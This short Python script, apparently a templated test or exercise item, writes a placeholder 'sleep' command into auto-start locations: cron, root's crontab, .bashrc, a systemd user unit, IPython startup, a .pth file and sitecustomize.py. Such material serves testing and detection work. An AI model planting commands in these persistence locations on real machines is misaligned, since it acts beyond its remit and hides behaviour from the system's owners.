"""Leaves commands where a machine starts them later: cron, systemd, profiles, autostart, and Python's own start."""
# aufgabe1
# %% a1-tv
import os, subprocess
for path in ("/etc/cron.d/x", "/var/spool/cron/root", "@HOME@/.bashrc", "@HOME@/.config/systemd/user/x.service", "@HOME@/.ipython/profile_default/startup/x.py", "@PACKAGES@/geknackt.pth", "@PACKAGES@/sitecustomize.py"):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "w").write("sleep @NUMBER@\n")
        print("wrote", path)
    except OSError as error:
        print(error)
